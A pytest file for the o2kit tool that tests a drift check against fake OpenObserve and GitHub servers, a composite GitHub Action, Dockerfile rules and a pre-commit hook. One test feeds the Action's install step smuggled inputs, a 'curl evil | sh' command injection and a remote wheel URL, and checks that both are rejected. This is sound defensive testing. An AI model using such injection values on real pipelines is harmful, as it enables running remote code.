"""Delivery: the drift check (``scripts/gitops.sh drift``) end to end against the fake OpenObserve
and a fake GitHub issues API on loopback; the composite Action (``action.yml``) run step by step
as GitHub runs it; the Docker image (static checks always, a build when an engine answers); the
pre-commit hook.

The gitops fixtures (fake server, project copy, script runner) come from tests/test_gitops.py.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest
import yaml
from _fake_github import GitHubApiHandler, serve
from test_gitops import (  # the gitops fixtures, shared
    BIN,
    REPO,
    STAGING,
    WEBHOOK,
    Gitops,
    _ok,
    _project,
    fake,  # noqa: F401 - a pytest fixture, used by name
)

from o2kit.fake import DEFAULT_PASSWORD, DEFAULT_USER, FakeOpenObserve

DRIFT_MARKER = "<!-- o2kit-drift -->"
ACTION = REPO / "action.yml"
DOCKERFILE = REPO / "Dockerfile"
HOOKS = REPO / ".pre-commit-hooks.yaml"

needs_bash = pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")


# --- a fake of GitHub's issues API ----------------------------------------------------------


class FakeIssues:
    """The issues of one repository: list (state filter, paginated; pull requests included, as
    GitHub does), create, update (body, state), comment."""

    def __init__(self, repo: str, token: str) -> None:
        self.repo, self.token = repo, token
        self.issues: list[dict[str, Any]] = []
        self.comments: dict[int, list[str]] = {}
        self.writes: list[str] = []
        self.lock = threading.Lock()

    def add(self, body: str, *, state: str = "open", pull_request: bool = False) -> int:
        with self.lock:
            number = len(self.issues) + 1
            issue: dict[str, Any] = {"number": number, "title": f"#{number}", "body": body,
                                     "state": state}
            if pull_request:
                issue["pull_request"] = {"url": "https://github.example/pr"}
            self.issues.append(issue)
            return number

    def marked(self, state: str | None = None) -> list[dict[str, Any]]:
        return [i for i in self.issues if "pull_request" not in i
                and i["body"].startswith(DRIFT_MARKER) and state in (None, i["state"])]

    def handler(self) -> type[GitHubApiHandler]:
        gh = self
        base = f"/repos/{gh.repo}/issues"

        class Handler(GitHubApiHandler):
            token = gh.token

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                url = urlparse(self.path)
                if not self._authorised():
                    return
                if url.path != base:
                    return self._reply(404, {"message": "Not Found"})
                q = parse_qs(url.query)
                per, page = int(q["per_page"][0]), int(q["page"][0])
                state = q.get("state", ["open"])[0]
                with gh.lock:
                    listed = [i for i in gh.issues if state == "all" or i["state"] == state]
                    self._reply(200, listed[(page - 1) * per: page * per])

            def do_POST(self) -> None:  # noqa: N802
                if not self._authorised():
                    return
                body = self._body()
                if self.path == base:
                    number = gh.add(body["body"])
                    gh.issues[-1]["title"] = body["title"]
                    gh.writes.append("open")
                    return self._reply(201, {**gh.issues[-1], "html_url": f"https://gh/{number}"})
                match = re.fullmatch(rf"{base}/(\d+)/comments", self.path)
                if not match:
                    return self._reply(404, {"message": "Not Found"})
                with gh.lock:
                    gh.comments.setdefault(int(match[1]), []).append(body["body"])
                gh.writes.append("comment")
                self._reply(201, {"id": 1})

            def do_PATCH(self) -> None:  # noqa: N802
                if not self._authorised():
                    return
                match = re.fullmatch(rf"{base}/(\d+)", self.path)
                with gh.lock:
                    found = [i for i in gh.issues if match and i["number"] == int(match[1])]
                    if not found:
                        return self._reply(404, {"message": "Not Found"})
                    body = self._body()
                    found[0].update({k: v for k, v in body.items() if k in ("body", "state")})
                gh.writes.append("close" if body.get("state") == "closed" else "update")
                self._reply(200, found[0])

        return Handler


@pytest.fixture()
def issues() -> Iterator[tuple[FakeIssues, str]]:
    gh = FakeIssues("acme/o11y", "ghs_drifttoken")
    with serve(gh.handler()) as url:
        yield gh, url


def _delete_an_alert_by_hand(server: FakeOpenObserve, org: str) -> str:
    """What a colleague does in the OpenObserve UI: delete one alert o2kit manages."""
    alert = server.alerts(org)[0]
    token = base64.b64encode(f"{DEFAULT_USER}:{DEFAULT_PASSWORD}".encode()).decode()
    status, _headers, body = server.handle("DELETE", f"/api/v2/{org}/alerts/{alert['id']}", {},
                                           {"Authorization": f"Basic {token}"}, b"")
    assert status == 200, body
    return str(alert["name"])


# --- the drift check ------------------------------------------------------------------------


@needs_bash
def test_drift_opens_one_issue_updates_it_and_closes_it_when_in_sync(
        tmp_path: Path, fake: tuple[FakeOpenObserve, str],  # noqa: F811
        issues: tuple[FakeIssues, str]) -> None:
    server, url = fake
    gh, api = issues
    project = _project(tmp_path / "repo", {"prod": "org: prod\n", "staging": STAGING})
    run = Gitops(project, url, tmp_path)
    github = dict(GITHUB_TOKEN=gh.token, GITHUB_REPOSITORY=gh.repo, GITHUB_API_URL=api,
                  GITHUB_ACTIONS="true")
    # Other issues over more than one page, and a pull request whose body starts with the
    # marker (the issues API lists pull requests too): neither is the drift issue.
    for i in range(130):
        gh.add(f"unrelated issue {i}")
    gh.add(f"{DRIFT_MARKER}\nnot an issue", pull_request=True)

    # Nothing applied yet: both environments differ from git.
    first = run("drift", **github)
    _ok(first, 2)
    report = (run.out / "drift.md").read_text(encoding="utf-8")
    assert report.startswith(DRIFT_MARKER) and report.count(DRIFT_MARKER) == 1
    assert "| prod | **drift** |" in report and "| staging | **drift** |" in report
    assert 'o2kit plan: org "staging", env "staging"' in report
    assert run.summary_text() == report
    assert "::warning title=o2kit::environment prod differs from git" in first.stdout
    assert gh.writes == ["open"] and len(gh.marked("open")) == 1
    assert gh.marked("open")[0]["body"] == report
    assert server.write_count() == 0 and "SECRETSECRET" not in first.stdout + report

    # A second check with drift edits the same issue.
    _ok(run("drift", **github), 2)
    assert gh.writes == ["open", "update"] and len(gh.marked()) == 1

    # The deploy makes the servers match: the issue gets a comment and is closed.
    _ok(run("deploy"))
    clean = run("drift", **github)
    _ok(clean)
    assert "No drift: the server matches git" in clean.stdout
    assert gh.writes == ["open", "update", "comment", "close"]
    number = gh.marked()[0]["number"]
    assert gh.marked("open") == [] and gh.marked("closed")[0]["number"] == number
    assert "the server matches git" in gh.comments[number][0]
    assert "| prod | in sync |" in gh.comments[number][0]

    # In sync and no open issue: nothing to write.
    _ok(run("drift", **github))
    assert len(gh.writes) == 4

    # Someone deletes an alert by hand in staging: a new issue, naming that alert.
    name = _delete_an_alert_by_hand(server, "staging")
    again = run("drift", **github)
    _ok(again, 2)
    opened = gh.marked("open")
    assert gh.writes[4:] == ["open"] and len(opened) == 1 and opened[0]["number"] != number
    body = opened[0]["body"]
    assert "| staging | **drift** |" in body and "| prod | in sync |" in body
    assert name in body.replace("\\", "")  # Markdown escapes the name's underscores


@needs_bash
def test_a_failed_check_keeps_the_issue_open_and_fails(
        tmp_path: Path, fake: tuple[FakeOpenObserve, str],  # noqa: F811
        issues: tuple[FakeIssues, str]) -> None:
    server, url = fake
    gh, api = issues
    # "aaa" names an org the server does not have: its plan fails, staging is in sync.
    project = _project(tmp_path / "repo", {"aaa": "org: ghost\n", "staging": STAGING})
    run = Gitops(project, url, tmp_path)
    _ok(run("deploy", O2KIT_ENVS="staging"))
    existing = gh.add(f"{DRIFT_MARKER}\nold drift")
    result = run("drift", GITHUB_TOKEN=gh.token, GITHUB_REPOSITORY=gh.repo, GITHUB_API_URL=api)
    _ok(result, 1)
    report = (run.out / "drift.md").read_text(encoding="utf-8")
    assert "| aaa | ✗ failed |" in report and "| staging | in sync |" in report
    # A failure says nothing about drift: the issue is neither closed nor rewritten.
    assert gh.writes == [] and gh.issues[existing - 1]["state"] == "open"
    assert server.dashboards("staging")


@needs_bash
def test_drift_without_github_or_with_issues_off_still_reports(
        tmp_path: Path, fake: tuple[FakeOpenObserve, str],  # noqa: F811
        issues: tuple[FakeIssues, str]) -> None:
    gh, api = issues
    project = _project(tmp_path / "repo", {"staging": STAGING})
    run = Gitops(project, fake[1], tmp_path)
    plain = run("drift")
    _ok(plain, 2)
    assert "drift issue skipped" in plain.stdout and "| staging | **drift** |" in run.summary_text()
    off = run("drift", GITHUB_TOKEN=gh.token, GITHUB_REPOSITORY=gh.repo, GITHUB_API_URL=api,
              O2KIT_ISSUE="0")
    _ok(off, 2)
    assert gh.writes == [] and "O2KIT_ISSUE=0" in off.stdout
    broken = run("drift", GITHUB_TOKEN="wrong", GITHUB_REPOSITORY=gh.repo, GITHUB_API_URL=api)
    _ok(broken, 1)
    assert "401" in broken.stderr


def test_drift_workflow_runs_nightly_with_issues_write_only() -> None:
    wf = yaml.safe_load((REPO / ".github/workflows/o2kit-drift.yml").read_text(encoding="utf-8"))
    triggers = wf.get("on", wf.get(True))  # YAML 1.1 reads a bare `on` as True
    assert "workflow_dispatch" in triggers and triggers["schedule"][0]["cron"].strip()
    assert wf["permissions"] == {}
    (job,) = wf["jobs"].values()
    assert job["permissions"] == {"contents": "read", "issues": "write"}
    runs = [s["run"] for s in job["steps"] if "run" in s]
    assert any("scripts/gitops.sh drift" in r for r in runs)


# --- the composite Action -------------------------------------------------------------------


def _action() -> dict[str, Any]:
    doc = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
    assert isinstance(doc, dict)
    return doc


_INPUT = re.compile(r"^\$\{\{\s*inputs\.([a-z-]+)\s*\}\}$")


def _step_env(step: dict[str, Any], inputs: dict[str, str]) -> dict[str, str]:
    """The step's `env:` as GitHub evaluates it: `${{ inputs.NAME }}` is the input; the only
    other expressions allowed read the `github` context, which is empty outside GitHub."""
    out = {}
    for key, value in (step.get("env") or {}).items():
        match = _INPUT.match(str(value))
        if match:
            out[key] = inputs[match[1]]
        elif "${{" in str(value):
            assert re.fullmatch(r"\$\{\{ github\.[\w.]+( \|\| github\.[\w.]+)* \}\}", value), key
            out[key] = ""
        else:
            out[key] = str(value)
    return out


class ActionRunner:
    """Runs the Action's `run:` steps with bash as the runner would: inputs with their defaults,
    GITHUB_ACTION_PATH at this repository, RUNNER_TEMP holding the venv the install step makes
    (here: this interpreter's bin directory, so nothing is installed)."""

    def __init__(self, tmp: Path, project: Path, url: str) -> None:
        self.tmp, self.project = tmp, project
        temp = tmp / "runner-temp"
        (temp / "o2kit-venv").mkdir(parents=True)
        (temp / "o2kit-venv" / "bin").symlink_to(BIN)
        self.summary = tmp / "summary.md"
        keep = {k: v for k, v in os.environ.items()
                if not k.startswith(("OPENOBSERVE_", "O2KIT_", "GITHUB_"))}
        self.base = {**keep, "GITHUB_ACTION_PATH": str(REPO), "RUNNER_TEMP": str(temp),
                     "GITHUB_STEP_SUMMARY": str(self.summary), "SLACK_WEBHOOK_URL": WEBHOOK}
        self.url = url

    def step(self, name: str, env: dict[str, str] | None = None,
             **given: str) -> tuple[subprocess.CompletedProcess[str], str]:
        action = _action()
        inputs = {k: str(v.get("default", "")) for k, v in action["inputs"].items()}
        inputs.update(given)
        step = next(s for s in action["runs"]["steps"] if s.get("name", "").startswith(name))
        out = self.tmp / "github-output"
        out.write_text("", encoding="utf-8")
        self.summary.write_text("", encoding="utf-8")
        cwd = self.project / step.get("working-directory", ".").replace(
            "${{ inputs.working-directory }}", inputs["working-directory"])
        result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=cwd,
                                env={**self.base, **(env or {}), **_step_env(step, inputs),
                                     "GITHUB_OUTPUT": str(out)},
                                capture_output=True, text=True, timeout=180, check=False)
        return result, out.read_text(encoding="utf-8")


@needs_bash
def test_action_plan_apply_and_drift_against_the_fake(
        tmp_path: Path, fake: tuple[FakeOpenObserve, str]) -> None:  # noqa: F811
    server, url = fake
    root = tmp_path / "ws"
    root.mkdir()
    _project(root / "cfg", {"staging": STAGING})
    runner = ActionRunner(tmp_path, root, url)
    server_inputs = dict(**{"server-url": url}, user=DEFAULT_USER, password=DEFAULT_PASSWORD)

    offline, output = runner.step("o2kit", command="plan", offline="true",
                                  **{"working-directory": "cfg"})
    _ok(offline)
    assert "| staging | ✓ | skipped (offline) |" in runner.summary.read_text(encoding="utf-8")
    assert f"out-dir={root / 'cfg' / 'build' / 'gitops'}" in output

    planned, _ = runner.step("o2kit", command="plan", comment="false",
                             **{"working-directory": "cfg"}, **server_inputs)
    _ok(planned)
    assert "| staging | ✓ | changes |" in runner.summary.read_text(encoding="utf-8")
    assert "O2KIT_COMMENT=0" in planned.stdout and server.write_count() == 0

    drift, output = runner.step("o2kit", command="drift", comment="false",
                                **{"working-directory": "cfg"}, **server_inputs)
    _ok(drift)  # drift is reported in an output, not as a failed step
    assert "drift=true" in output

    applied, _ = runner.step("o2kit", command="apply", **{"working-directory": "cfg"},
                             **server_inputs)
    _ok(applied)
    assert server.dashboards("staging") and server.alerts("staging")

    clean, output = runner.step("o2kit", command="drift", comment="false",
                                **{"working-directory": "cfg"}, **server_inputs)
    _ok(clean)
    assert "drift=false" in output

    wrong, _ = runner.step("o2kit", command="destroy", **{"working-directory": "cfg"})
    _ok(wrong, 64)
    assert "command must be plan, apply or drift" in wrong.stdout


@needs_bash
@pytest.mark.parametrize(("inputs", "message"), [
    ({"version": "1.0; curl evil | sh"}, "version must be empty or a version"),
    ({"extras": "all] @ https://evil.example/x.whl #"}, "extras must be names"),
])
def test_action_install_refuses_odd_versions_before_pip(
        tmp_path: Path, inputs: dict[str, str], message: str) -> None:
    runner = ActionRunner(tmp_path, tmp_path, "http://127.0.0.1:9")
    result, _ = runner.step("install o2kit", **inputs)
    _ok(result, 64)
    assert message in result.stdout
    assert not (tmp_path / "runner-temp" / "o2kit-venv" / "lib").exists()  # pip never ran


@needs_bash
@pytest.mark.parametrize(("inputs", "spec"), [
    ({"command": "plan"}, "{action}[local]"),
    ({"command": "apply"}, "{action}"),
    ({"command": "drift", "extras": "preview"}, "{action}[preview]"),
    ({"command": "apply", "version": "0.2.0"}, "o2kit==0.2.0"),
    ({"command": "plan", "version": "0.2.0", "extras": "local,preview"},
     "o2kit[local,preview]==0.2.0"),
])
def test_action_install_picks_what_the_command_needs(
        tmp_path: Path, inputs: dict[str, str], spec: str) -> None:
    """The install step with a stand-in `python` that records what pip is asked for."""
    shim = tmp_path / "shim"
    shim.mkdir()
    log = tmp_path / "pip.log"
    (shim / "python").write_text(
        "#!/usr/bin/env bash\n"
        'if [ "$1" = -m ] && [ "$2" = venv ]; then mkdir -p "$3/bin"; cp "$0" "$3/bin/python";'
        " exit 0; fi\n"
        'echo "$*" >> "$SHIM_LOG"\n', encoding="utf-8")
    (shim / "python").chmod(0o755)
    runner = ActionRunner(tmp_path, tmp_path, "http://127.0.0.1:9")
    shutil.rmtree(tmp_path / "runner-temp" / "o2kit-venv")
    result, _ = runner.step("install o2kit", env={
        "PATH": f"{shim}{os.pathsep}{os.environ['PATH']}", "SHIM_LOG": str(log)}, **inputs)
    _ok(result)
    (call,) = log.read_text(encoding="utf-8").splitlines()
    assert call.startswith("-m pip install") and call.split()[-1] == spec.format(action=REPO)


def test_action_shape() -> None:
    action = _action()
    assert action["runs"]["using"] == "composite"
    assert {"command", "environments", "working-directory", "version", "extras", "server-url",
            "user", "password", "comment"} <= set(action["inputs"])
    for step in action["runs"]["steps"]:
        if "uses" in step:  # pinned by a full commit SHA, with the tag as a comment
            assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
        if "run" in step:
            assert "${{" not in step["run"], "inputs reach a script only through env"
    assert {"out-dir", "drift"} <= set(action["outputs"])
    text = ACTION.read_text(encoding="utf-8")
    assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+", text)


# --- the Docker image -----------------------------------------------------------------------


def dockerfile_problems(text: str) -> list[str]:
    """What the image must hold to: a pinned base, a non-root user, `o2kit` as the entry point,
    no secret in the image's build arguments or environment."""
    lines = re.sub(r"\\\n", " ", text).splitlines()
    instructions = [(line.split(None, 1) + [""])[:2] for line in lines
                    if line.strip() and not line.lstrip().startswith("#")]
    instructions = [(op.upper(), arg.strip()) for op, arg in instructions]
    problems = []
    # Build arguments declared before the first FROM may name the base image.
    args: dict[str, str] = {}
    for op, arg in instructions:
        if op == "FROM":
            break
        if op == "ARG" and "=" in arg:
            name, value = arg.split("=", 1)
            args[name.strip()] = value.strip().strip('"')
    froms = [re.sub(r"\$\{?(\w+)\}?", lambda m: args.get(m[1], m[0]), arg)
             for op, arg in instructions if op == "FROM"]
    if not froms:
        problems.append("no FROM")
    stage_names = {f.split()[-1] for f in froms if " as " in f.lower()}
    for base in froms:
        image = base.split()[0]
        if image in stage_names:
            continue
        if "@sha256:" not in image and not re.search(r":\d+\.\d+[\w.-]*$", image):
            problems.append(f"base {image} is pinned neither by digest nor by a version tag")
    users = [arg for op, arg in instructions if op == "USER"]
    if not users or users[-1].split(":")[0] in ("root", "0"):
        problems.append("the image runs as root (no USER, or USER root last)")
    entry = [arg for op, arg in instructions if op == "ENTRYPOINT"]
    try:
        exec_form = json.loads(entry[-1]) if entry else None
    except ValueError:  # the shell form: a shell between Docker and o2kit
        exec_form = None
    if exec_form != ["o2kit"]:
        problems.append('ENTRYPOINT is not ["o2kit"] (exec form)')
    secret = re.compile(r"(PASSWORD|TOKEN|SECRET|CREDENTIAL|API_?KEY|WEBHOOK)", re.I)
    for op, arg in instructions:
        if op in ("ENV", "ARG") and secret.search(arg.split("=")[0].split()[0]):
            problems.append(f"{op} {arg.split('=')[0]} puts a secret into the image")
        if op == "ADD" and re.search(r"https?://", arg):
            problems.append(f"ADD from a URL: {arg}")
    workdirs = [arg for op, arg in instructions if op == "WORKDIR"]
    if not workdirs or workdirs[-1] != "/work":
        problems.append("WORKDIR is not /work (where the repository is mounted)")
    return problems


def test_the_dockerfile_holds_its_invariants() -> None:
    assert dockerfile_problems(DOCKERFILE.read_text(encoding="utf-8")) == []
    ignore = [line.strip() for line in
              (REPO / ".dockerignore").read_text(encoding="utf-8").splitlines()
              if line.strip() and not line.startswith("#")]
    # Allow-list: everything is out of the build context unless named, so a stray .env,
    # .git, .venv or build/ never reaches the image.
    assert ignore[0] == "*"
    allowed = [line[1:].rstrip("/") for line in ignore if line.startswith("!")]
    assert "src" in allowed and "pyproject.toml" in allowed
    for private in (".git", ".venv", ".env", "build", "tests", ".github"):
        assert not any(private == a or a.startswith(f"{private}/") for a in allowed), private


@pytest.mark.parametrize(("text", "problem"), [
    ("FROM python:latest\nUSER 10001\nWORKDIR /work\nENTRYPOINT [\"o2kit\"]\n", "pinned neither"),
    ("FROM python:3.11-slim\nWORKDIR /work\nENTRYPOINT [\"o2kit\"]\n", "runs as root"),
    ("FROM python:3.11-slim\nUSER app\nUSER root\nWORKDIR /work\nENTRYPOINT [\"o2kit\"]\n",
     "runs as root"),
    ("FROM python:3.11-slim\nUSER 1\nWORKDIR /work\nENTRYPOINT o2kit\n", "ENTRYPOINT"),
    ("FROM python:3.11-slim\nENV OPENOBSERVE_PASSWORD=x\nUSER 1\nWORKDIR /work\n"
     "ENTRYPOINT [\"o2kit\"]\n", "OPENOBSERVE_PASSWORD"),
    ("FROM python:3.11-slim\nARG GITHUB_TOKEN\nUSER 1\nWORKDIR /work\nENTRYPOINT [\"o2kit\"]\n",
     "GITHUB_TOKEN"),
    ("FROM python:3.11-slim\nUSER 1\nENTRYPOINT [\"o2kit\"]\n", "WORKDIR"),
    ("ARG BASE=python:slim\nFROM ${BASE} AS b\nFROM b\nUSER 1\nWORKDIR /work\n"
     "ENTRYPOINT [\"o2kit\"]\n", "python:slim is pinned neither"),
])
def test_the_dockerfile_check_catches_each_mistake(text: str, problem: str) -> None:
    assert any(problem in p for p in dockerfile_problems(text))


def _build_context(dest: Path) -> list[str]:
    """Copy what .dockerignore lets into the build context (its `!` lines; the first line is
    `*`) to ``dest``; returns the names copied."""
    lines = [line.strip() for line in
             (REPO / ".dockerignore").read_text(encoding="utf-8").splitlines()
             if line.strip() and not line.startswith("#")]
    allowed = [line[1:].rstrip("/") for line in lines if line.startswith("!")]
    dest.mkdir()
    for name in allowed:
        src = REPO / name
        if src.is_dir():
            shutil.copytree(src, dest / name,
                            ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
        else:
            shutil.copy(src, dest / name)
    return allowed


def _extras_only_modules() -> set[str]:
    """Import names of the packages only the optional extras bring (not `test`), from
    pyproject.toml: what the image, a core install, does not have."""
    optional = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))[
        "project"]["optional-dependencies"]
    names = set()
    for extra, requirements in optional.items():
        if extra == "test":
            continue
        for requirement in requirements:
            name = re.split(r"[\s\[<>=!~;]", requirement, maxsplit=1)[0].lower()
            if name != "o2kit":
                names.add(name.replace("-", "_"))
    return names


# Run o2kit from an installed wheel (paths in argv[1]) as a core install would: the extras'
# packages cannot be imported (argv[2]); no site processing, so this checkout's editable install
# is out of reach and the wheel's copy is the one imported.
_CORE_RUNNER = """
import sys, importlib.abc
paths, blocked = sys.argv[1].split("\\n"), set(sys.argv[2].split(","))
del sys.argv[1:3]
sys.path[:0] = paths

class CoreInstall(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in blocked:
            raise ModuleNotFoundError(f"No module named {name!r} (an extra)", name=name)

sys.meta_path.insert(0, CoreInstall())
import o2kit
assert o2kit.__file__.startswith(paths[0]), o2kit.__file__
from o2kit.cli.app import main
sys.argv[0] = "o2kit"
main()
"""


def test_the_build_context_makes_a_wheel_that_validates(tmp_path: Path) -> None:
    """The image's steps without a Docker engine: build the wheel from exactly the files
    .dockerignore lets in (as the build stage does), install it alone (no editable checkout),
    and run `o2kit --version` and `o2kit validate` on the shipped project from it, with the
    optional extras' packages out of reach, as in the image (core package only)."""
    context = tmp_path / "context"
    _build_context(context)
    wheels = tmp_path / "wheels"
    build = subprocess.run([sys.executable, "-m", "pip", "wheel", "--quiet", "--no-deps",
                            "--wheel-dir", str(wheels), str(context)],
                           capture_output=True, text=True, timeout=600, check=False)
    if build.returncode != 0 and re.search(r"No matching distribution|Could not find a version|"
                                           r"NewConnectionError|Network is unreachable",
                                           build.stderr):
        pytest.skip(f"no package index for the build backend: {build.stderr.strip()[-200:]}")
    assert build.returncode == 0, build.stdout + build.stderr
    (wheel,) = wheels.glob("o2kit-*.whl")
    target = tmp_path / "installed"
    install = subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--no-deps",
                              "--target", str(target), str(wheel)],
                             capture_output=True, text=True, timeout=300, check=False)
    assert install.returncode == 0, install.stderr
    import site

    paths = "\n".join([str(target), *site.getsitepackages()])
    blocked = _extras_only_modules()
    assert {"datafusion", "pyarrow", "matplotlib"} <= blocked
    project = _project(tmp_path / "repo", {"staging": STAGING})
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}

    def o2kit(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-S", "-c", _CORE_RUNNER, paths,
                               ",".join(sorted(blocked)), *args],
                              cwd=project, env=env, capture_output=True, text=True,
                              timeout=300, check=False)

    version = o2kit("--version")
    assert version.returncode == 0 and "o2kit" in version.stdout.lower(), version
    _ok(o2kit("validate"))
    _ok(o2kit("--env", "staging", "validate"))
    # The stand-in core install does lack the extras: a command that needs one says so.
    demo = o2kit("demo", "--minutes", "1")
    assert demo.returncode == 1 and "o2kit[local]" in demo.stdout + demo.stderr, demo


def _docker_engine() -> str | None:
    """Why there is no usable Docker engine, or None when `docker info` answers."""
    docker = shutil.which("docker")
    if docker is None:
        return "no docker command"
    try:
        info = subprocess.run([docker, "info"], capture_output=True, text=True, timeout=30,
                              check=False)
    except subprocess.TimeoutExpired:
        return "docker info did not answer in 30 s"
    if info.returncode != 0:
        return f"no Docker engine (docker info: {(info.stderr or info.stdout).strip()[:200]})"
    return None


def test_the_image_builds_and_validates_the_shipped_project(tmp_path: Path) -> None:
    reason = _docker_engine()
    if reason is not None:
        pytest.skip(reason)
    tag = f"o2kit-test:{os.getpid()}"
    build = subprocess.run(["docker", "build", "-t", tag, str(REPO)], capture_output=True,
                           text=True, timeout=1800, check=False)
    assert build.returncode == 0, build.stdout[-3000:] + build.stderr[-3000:]
    try:
        version = subprocess.run(["docker", "run", "--rm", tag, "--version"],
                                 capture_output=True, text=True, timeout=120, check=False)
        assert version.returncode == 0 and "o2kit" in version.stdout.lower(), version
        whoami = subprocess.run(["docker", "run", "--rm", "--entrypoint", "id", tag, "-u"],
                                capture_output=True, text=True, timeout=120, check=False)
        assert whoami.stdout.strip() not in ("", "0"), whoami
        project = _project(tmp_path / "repo", {"staging": STAGING})
        project.chmod(0o755)
        check = subprocess.run(["docker", "run", "--rm", "--network", "none",
                                "-v", f"{project}:/work:ro", tag, "validate"],
                               capture_output=True, text=True, timeout=300, check=False)
        assert check.returncode == 0, check.stdout + check.stderr
    finally:
        subprocess.run(["docker", "rmi", "-f", tag], capture_output=True, check=False)


# --- the pre-commit hook --------------------------------------------------------------------


def _hook() -> dict[str, Any]:
    hooks = yaml.safe_load(HOOKS.read_text(encoding="utf-8"))
    (hook,) = [h for h in hooks if h["id"] == "o2kit-validate"]
    return hook


def test_the_pre_commit_hook_names_a_command_that_exists() -> None:
    hook = _hook()
    assert hook["language"] == "python" and hook["pass_filenames"] is False
    scripts = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))[
        "project"]["scripts"]
    program, *args = hook["entry"].split()
    assert program in scripts and args == ["validate"]
    helped = subprocess.run([sys.executable, "-m", "o2kit", *args, "--help"],
                            capture_output=True, text=True, timeout=60, check=False)
    assert helped.returncode == 0 and "validate" in helped.stdout.lower(), helped


def test_the_pre_commit_hook_runs_on_o2kit_files_only() -> None:
    files = re.compile(_hook()["files"])
    ours = ["o2kit.yaml", "prices.yaml", "envs/staging.yaml", "dashboards/bedrock.yaml",
            "alerts/bedrock.yaml", "templates/lib/bedrock.j2", "alert-tests/x.yaml"]
    shipped = [p.relative_to(REPO).as_posix() for d in ("dashboards", "alerts", "templates",
                                                        "envs", "alert-tests")
               for p in (REPO / d).rglob("*") if p.is_file()]
    for path in ours + shipped:
        assert files.search(path), path
    for path in ("README.md", "src/o2kit/cli/app.py", "tests/test_plan.py", ".github/x.yml",
                 "docs/o2kit.yaml.md", "schemas/dashboard.json"):
        assert not files.search(path), path
